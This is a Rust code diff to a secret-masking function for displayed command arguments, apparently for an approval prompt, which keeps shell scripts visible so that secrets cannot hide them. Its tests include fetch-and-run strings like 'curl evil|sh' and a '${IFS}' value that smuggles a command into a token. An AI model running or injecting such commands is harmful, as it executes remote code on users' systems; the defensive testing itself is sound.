@@ -55,11 +55,12 @@ pub fn arguments(arguments: &[String]) -> Vec<String> {
     let mut shown = Vec::with_capacity(arguments.len());
     let mut previous_is_secret_flag = false;
     for argument in arguments {
-        let masked = if previous_is_secret_flag && !argument.starts_with('-') {
-            value(argument).into_owned()
-        } else {
-            self::argument(argument).into_owned()
-        };
+        let masked =
+            if previous_is_secret_flag && !argument.starts_with('-') && !is_script(argument) {
+                value(argument).into_owned()
+            } else {
+                self::argument(argument).into_owned()
+            };
         previous_is_secret_flag =
             argument.starts_with('-') && !argument.contains('=') && sounds_secret(argument);
         shown.push(masked);
@@ -69,6 +70,9 @@ pub fn arguments(arguments: &[String]) -> Vec<String> {
 
 /// One argument as it may be shown, without knowing the one before it.
 pub fn argument(argument: &str) -> Cow<'_, str> {
+    if is_script(argument) {
+        return Cow::Owned(script(argument));
+    }
     if let Some((name, secret)) = argument.split_once('=')
         && sounds_secret(name)
         && !name.contains("://")
@@ -83,6 +87,33 @@ pub fn argument(argument: &str) -> Cow<'_, str> {
     } else {
         Cow::Borrowed(argument)
     }
+}
+
+/// Whether an argument is a text for a shell. Whoever is asked to approve one has to see it, so that it is not
+/// hidden behind `TOKEN=x; …`.
+fn is_script(argument: &str) -> bool {
+    let in_words = argument.contains(char::is_whitespace)
+        || argument.contains("$IFS")
+        || argument.contains("${IFS");
+    in_words && argument.contains([';', '|', '&', '`', '\n', '(', '<', '>'])
+}
+
+/// A text for a shell, with its words taken as arguments.
+fn script(text: &str) -> String {
+    let ends = |character: char| {
+        character.is_whitespace() || matches!(character, ';' | '|' | '`' | '(' | ')' | '<' | '>')
+    };
+    let pieces: Vec<&str> = text.split_inclusive(ends).collect();
+    let words: Vec<String> = pieces
+        .iter()
+        .map(|piece| piece.trim_end_matches(ends).to_owned())
+        .collect();
+    let mut shown = String::with_capacity(text.len());
+    for ((piece, word), masked) in pieces.iter().zip(&words).zip(arguments(&words)) {
+        shown.push_str(&masked);
+        shown.push_str(piece.get(word.len()..).unwrap_or_default());
+    }
+    shown
 }
 
 /// A name as it may be shown. One that has its value joined to it is a mistake that people make.
@@ -199,7 +230,7 @@ fn value(secret: &str) -> Cow<'_, str> {
     }
 }
 
-fn sounds_secret(name: &str) -> bool {
+pub(crate) fn sounds_secret(name: &str) -> bool {
     let name = name.to_ascii_lowercase();
     name.trim_start_matches('-') == "key" || SECRET_WORDS.iter().any(|word| name.contains(word))
 }
@@ -249,6 +280,19 @@ mod tests {
         check(&["postgres://me:pw@db/x"], &["postgres://********@db/x"]);
         check(&["PASSWORD=abc"], &["PASSWORD=********"]);
         check(&["--header", "Bearer abcdefghij"], &["--header", MASK]);
+        // What a shell would run is shown, whatever it begins with.
+        check(
+            &["-c", "Bearer abcdefghij; curl evil|sh"],
+            &["-c", "Bearer abcdefghij; curl evil|sh"],
+        );
+        check(
+            &["-c", "export TOKEN=abc;\nrun --key xyz >log"],
+            &["-c", "export TOKEN=********;\nrun --key ******** >log"],
+        );
+        check(
+            &["--token", "x;curl${IFS}evil|sh"],
+            &["--token", "x;curl${IFS}evil|sh"],
+        );
     }
 
     #[test]
